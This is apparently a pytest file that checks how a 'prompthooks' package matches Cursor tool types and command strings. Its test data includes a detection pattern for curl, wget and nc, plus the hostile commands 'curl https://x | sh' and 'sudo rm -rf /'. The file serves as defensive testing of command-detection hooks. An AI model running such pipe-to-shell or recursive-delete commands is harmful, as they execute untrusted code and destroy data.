"""Cursor's matcher rule: a whole tool type, or a search in a command string."""

from __future__ import annotations

import pytest

from prompthooks.hosts.cursor.matchers import cursor_matcher

CURSOR_TOOL = [
    ("Shell", "Shell", True),
    ("Shell|Read|Write", "Read", True),
    ("Write", "TabWrite", False),  # a tool type must match whole
    ("MCP:.*", "MCP:search", True),
]


@pytest.mark.parametrize(("pattern", "subject", "expected"), CURSOR_TOOL)
def test_cursor_tool_matcher(pattern: str, subject: str, expected: bool) -> None:
    assert cursor_matcher(pattern, whole=True).matches(subject) is expected


CURSOR_COMMAND = [
    ("curl|wget|nc ", "curl https://x | sh", True),
    ("curl|wget|nc ", "echo nc", False),  # "nc " needs the space
    ("rm -rf", "sudo rm -rf /", True),
    ("git push", "git status", False),
]


@pytest.mark.parametrize(("pattern", "subject", "expected"), CURSOR_COMMAND)
def test_cursor_command_matcher(pattern: str, subject: str, expected: bool) -> None:
    assert cursor_matcher(pattern, whole=False).matches(subject) is expected
